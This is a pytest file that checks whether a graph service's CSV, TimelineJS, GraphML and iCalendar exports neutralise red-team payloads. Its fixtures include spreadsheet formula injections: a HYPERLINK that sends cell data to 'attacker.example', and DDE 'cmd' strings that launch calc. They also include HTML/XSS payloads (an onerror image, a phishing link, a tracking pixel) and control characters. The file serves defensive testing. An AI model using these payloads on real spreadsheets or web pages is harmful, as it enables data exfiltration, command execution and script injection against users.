"""Exports that carry attacks (third red-team round): stored text that a spreadsheet
would run as a formula, that TimelineJS would render as HTML, or that XML and
iCalendar cannot hold. Each export is read through the store (both backends) and by a
real reader of its format; the JSON export keeps the text exactly as stored."""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import shutil
import threading
import unicodedata
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from http.server import ThreadingHTTPServer
from pathlib import Path

import networkx as nx
import pytest
from fastapi.testclient import TestClient
from icalendar import Calendar
from lxml import etree, html

from graphsvc.api import create_app
from graphsvc.export.neutralise import plain_text, spreadsheet_cell
from graphsvc.model import GraphBatch
from graphsvc.settings import Settings
from tests.contract.backends import BACKENDS, open_backend
from tests.examples.test_timeline_page import (
    PAGE,
    _QuietHandler,
    _run_chromium,
    chromium,
    node_modules,
)

__all__ = ["chromium", "node_modules"]  # fixtures of the TimelineJS page test, used here

DAY = date(2020, 3, 2)
#: Payloads as the red team stored them, by where they sit.
FORMULA_SUMMARY = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
FORMULA_DATE_TEXT = "+1 day+cmd|' /C calc'!A0"
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_TITLE = "-2+3+cmd|' /C calc'!A0"
FORMULA_URL = "\t=1+1"
FULL_WIDTH_SUMMARY = "\N{FULLWIDTH EQUALS SIGN}1+1"  # some spreadsheets take it for `=`
HTML_SUMMARY = "<img src=x onerror=alert(1)>Talks"
HTML_DATE_TEXT = '<a href="http://phish.example/login">today</a>'
HTML_SENTENCE = 'Officials met <img src="http://tracker.example/pixel.gif"> today.'
HTML_NAME = "<b>Mallory</b> & Co"
CONTROL_SUMMARY = "Ctrl\x01 talks\x1b[31m end\x00"
CONTROL_SENTENCE = "A sentence\x0bwith a vertical tab, DEL\x7f and NUL\x00 in it."
#: RFC 5545 CONTROL (all but HTAB) and what XML 1.0 forbids, as found in raw output.
ICAL_FORBIDDEN = re.compile("[\x00-\x08\x0a-\x1f\x7f]")


def _event(
    id: str, summary: str, sentence: str, date_text: str, actor: str = "person:mallory"
) -> dict:
    return {
        "id": id,
        "type": "consult",
        "summary": summary,
        "when": {"start": DAY, "end": DAY, "precision": "day", "text": date_text},
        "participants": [{"actor": actor, "role": "agent"}],
        "sources": [{"document": "hostile", "sentence": sentence}],
    }


HOSTILE = GraphBatch.model_validate(
    {
        "documents": [{"id": "hostile", "title": FORMULA_TITLE, "url": FORMULA_URL}],
        "actors": [
            {"id": "person:mallory", "name": HTML_NAME, "kind": "person"},
            {"id": "person:formula", "name": FORMULA_NAME, "kind": "person"},
            {"id": "person:ctrl", "name": "Esc\x1b Person", "kind": "person"},
        ],
        "events": [
            _event("event:formula", FORMULA_SUMMARY, "They met.", FORMULA_DATE_TEXT,
                   "person:formula"),
            _event("event:full-width", FULL_WIDTH_SUMMARY, "They met again.", "March 2"),
            _event("event:html", HTML_SUMMARY, HTML_SENTENCE, HTML_DATE_TEXT),
            _event("event:control", CONTROL_SUMMARY, CONTROL_SENTENCE, "on\x01 March 2",
                   "person:ctrl"),
        ],
    }
)  # fmt: skip


@pytest.fixture(params=BACKENDS)
def api(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[TestClient]:
    target = None
    if request.param == "neo4j":
        from tests.neo4j_fixture import wipe

        target = request.getfixturevalue("neo4j_target")
        wipe(target)
    store = open_backend(request.param, tmp_path, target)
    store.write_batch(HOSTILE)
    with TestClient(create_app(Settings(data_dir=tmp_path), store=store)) as client:
        yield client
    store.close()


def _export(client: TestClient, fmt: str, **params: str):
    response = client.get("/timeline/export", params={"format": fmt, **params})
    assert response.status_code == 200, response.text
    return response


# -- finding 6: CSV formula injection


def _starts_a_formula(cell: str) -> bool:
    starts = set("=+-@\t\r")
    first = cell.lstrip(" ")[:1]
    return cell[:1] in starts or unicodedata.normalize("NFKC", first)[:1] in starts


def test_6_no_csv_cell_starts_a_formula(api: TestClient) -> None:
    text = _export(api, "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(HOSTILE.events)
    formulas = [cell for row in rows for cell in row if _starts_a_formula(cell)]
    assert formulas == []
    by_id = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    # The text is kept whole behind OWASP's leading quote, which spreadsheets hide.
    formula = by_id["event:formula"]
    assert formula["summary"] == "'" + FORMULA_SUMMARY
    assert formula["date_text"] == "'" + FORMULA_DATE_TEXT
    assert formula["participants"] == f"'{FORMULA_NAME} (agent)"
    assert formula["source_titles"] == "'" + FORMULA_TITLE
    assert formula["source_urls"] == "'" + FORMULA_URL
    assert by_id["event:full-width"]["summary"] == "'" + FULL_WIDTH_SUMMARY
    # Dates, EDTF and plain text stay as they were.
    assert (formula["start"], formula["edtf"]) == ("2020-03-02", "2020-03-02")
    assert by_id["event:full-width"]["date_text"] == "March 2"


def test_6_the_quote_goes_only_where_a_formula_would_start() -> None:
    assert spreadsheet_cell("2015-10-20") == "2015-10-20"
    assert spreadsheet_cell("Vladimir Putin (agent)") == "Vladimir Putin (agent)"
    assert spreadsheet_cell("a=b") == "a=b"
    assert spreadsheet_cell("  =1+1") == "'  =1+1"
    assert spreadsheet_cell("\r=1") == "'\r=1"
    assert spreadsheet_cell("\N{SMALL PLUS SIGN}1") == "'\N{SMALL PLUS SIGN}1"  # NFKC folds it
    # No column is numeric, so a negative number is text and is quoted like the rest.
    assert spreadsheet_cell("-5") == "'-5"


# -- finding 7: TimelineJS fields are text, not HTML


class _Markup(HTMLParser):
    """The tags an HTML field holds and the text a browser would show of it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def test_7_timelinejs_fields_show_stored_html_as_text(api: TestClient) -> None:
    data = json.loads(_export(api, "timelinejs").text)
    slides = {e["unique_id"]: e for e in data["events"]}
    html = slides["event-html"]
    headline = _Markup(html["text"]["headline"])
    assert headline.tags == [] and headline.text == HTML_SUMMARY
    body = _Markup(html["text"]["text"])
    assert set(body.tags) <= {"p", "blockquote"}, body.tags  # only the export's own markup
    for stored in (HTML_DATE_TEXT, HTML_SENTENCE, HTML_NAME):
        assert stored in body.text
    for slide in data["events"]:
        group = _Markup(slide["group"])
        assert group.tags == [] and group.text == "consult"


def test_7_the_title_slide_shows_an_html_name_as_text(api: TestClient) -> None:
    data = json.loads(_export(api, "timelinejs", actor="person:mallory").text)
    title = _Markup(data["title"]["text"]["headline"])
    assert title.tags == [] and title.text == f"Timeline of {HTML_NAME}"


def test_7_timelinejs_in_a_browser_loads_no_image_and_shows_no_link(
    tmp_path: Path, chromium: str, node_modules: Path
) -> None:
    """What the red team saw, checked where it happened: examples/timeline.html with
    TimelineJS3 in headless Chromium, showing the export of the stored payloads."""
    store = open_backend("embedded", tmp_path / "data")
    store.write_batch(HOSTILE)
    with TestClient(create_app(Settings(data_dir=tmp_path / "data"), store=store)) as client:
        exported = _export(client, "timelinejs").text
    store.close()
    site = tmp_path / "site"
    site.mkdir()
    shutil.copy(PAGE, site / PAGE.name)
    (site / "hostile.json").write_text(exported, encoding="utf-8")
    (site / "timelinejs").mkdir()
    (site / "timelinejs" / "node_modules").symlink_to(node_modules, target_is_directory=True)
    server = ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(_QuietHandler, directory=str(site))
    )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/{PAGE.name}?data=hostile.json"
        dom = html.fromstring(_run_chromium(chromium, tmp_path / "profile", url, "--dump-dom"))
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
    assert dom.xpath("//img[@src='x' or contains(@src, 'tracker.example')]") == []
    assert dom.xpath("//a[contains(@href, 'phish.example')]") == []
    assert dom.xpath("//b[text()='Mallory']") == []
    slide = dom.get_element_by_id("event-html")
    assert slide.xpath(".//h2[contains(@class, 'tl-headline')]")[0].text_content() == HTML_SUMMARY
    assert HTML_SENTENCE in slide.text_content()


# -- finding 8: control characters in GraphML and iCalendar


def test_8_graphml_with_control_characters_parses_as_xml(api: TestClient) -> None:
    content = _export(api, "graphml").content
    root = etree.fromstring(content)  # strict: a forbidden character is a parse error
    assert root.tag == "{http://graphml.graphdrawing.org/xmlns}graphml"
    graph = nx.read_graphml(io.BytesIO(content))
    assert graph.nodes["event:control"]["label"] == "Ctrl talks[31m end"
    assert graph.nodes["event:control"]["date_text"] == "on March 2"
    assert graph.nodes["person:ctrl"]["label"] == "Esc Person"
    assert graph.nodes["event:html"]["label"] == HTML_SUMMARY  # XML escapes it itself
    assert len([n for n, d in graph.nodes(data=True) if d["node_type"] == "event"]) == 4


def test_8_icalendar_has_no_control_characters(api: TestClient) -> None:
    content = _export(api, "ics").content.decode("utf-8")
    assert content.endswith("END:VCALENDAR\r\n")
    # Line ends are CRLF; nothing else of RFC 5545's CONTROL (HTAB is allowed).
    assert ICAL_FORBIDDEN.findall(content.replace("\r\n", "")) == []
    events = {str(e["UID"]): e for e in Calendar.from_ical(content).walk("VEVENT")}
    assert len(events) == len(HOSTILE.events)
    control = events["event:control@graphsvc"]
    assert str(control["SUMMARY"]) == "Ctrl talks[31m end"
    # A separator-like control (VT) becomes a space; DEL and NUL are dropped.
    assert "A sentence with a vertical tab, DEL and NUL in it." in str(control["DESCRIPTION"])


def test_8_the_shared_helper_keeps_what_both_formats_allow() -> None:
    kept = "Tab\tand line\nbreak, é, 漢字, 🙂, \u2028"
    assert plain_text(kept) == kept
    assert plain_text("a\r\nb\rc") == "a\nb\nc"
    assert plain_text("x\x00\x01\x1b\x7f\x85\x9fy\ud800\ufffe\uffff") == "x y"


# -- the JSON export is the lossless one: text exactly as stored


def test_json_export_keeps_stored_text_exactly(api: TestClient) -> None:
    exported = json.loads(_export(api, "json").text)
    by_id = {e["id"]: e for e in exported["events"]}
    assert by_id["event:formula"]["summary"] == FORMULA_SUMMARY
    assert by_id["event:html"]["summary"] == HTML_SUMMARY
    assert by_id["event:control"]["summary"] == CONTROL_SUMMARY
    assert by_id["event:control"]["sources"][0]["sentence"] == CONTROL_SENTENCE
